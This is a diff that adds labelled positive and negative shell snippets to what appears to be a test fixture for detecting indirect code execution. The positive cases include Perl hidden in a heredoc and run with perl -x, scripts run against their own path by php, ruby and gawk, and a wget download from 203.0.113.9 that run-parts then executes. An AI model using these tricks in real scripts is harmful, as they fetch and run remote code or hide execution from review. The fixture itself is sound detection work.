@@ -230,3 +230,36 @@ split -n r/1 --filter "$(cat plan.txt)" data.txt
 read -r code; /proc/$$/exe -c "$code"
 #@ neg a process's exe read, not run
 readlink "/proc/$$/exe"
+#@ pos perl -x runs the Perl hidden after a #!perl line of this file
+: <<'X'
+#!perl
+system("id");
+__END__
+X
+perl -x "$0"
+#@ pos ruby -x on the script's own path
+ruby -x "${BASH_SOURCE[0]}"
+#@ pos php runs what sits between <?php tags of this file
+php "$0"
+#@ pos gawk -f this file
+gawk -f "$0" /dev/null
+#@ neg awk reads the script's own comments as its usage text
+awk '/^#/ { sub(/^# ?/, ""); print }' "$0"
+#@ neg perl -ne prints the usage lines of this file
+perl -ne 'print if s/^## //' "$0"
+#@ neg bash runs the script again under bash
+exec bash "$0" "$@"
+#@ pos run-parts runs every file of a directory the program filled
+d=/tmp/.hooks.d
+wget -q -P "$d" http://203.0.113.9/50x
+run-parts "$d"
+#@ pos find runs each file it finds as a program
+find /tmp/.d -type f -exec {} \;
+#@ pos run-parts with a regex, a directory given by a variable
+run-parts --regex '.*' "$HOOKS"
+#@ neg run-parts over the system's own cron directory
+run-parts /etc/cron.daily
+#@ neg run-parts --test lists what would run
+run-parts --test "$d"
+#@ neg find -exec of a named program on each file
+find . -name '*.sh' -exec shellcheck {} +
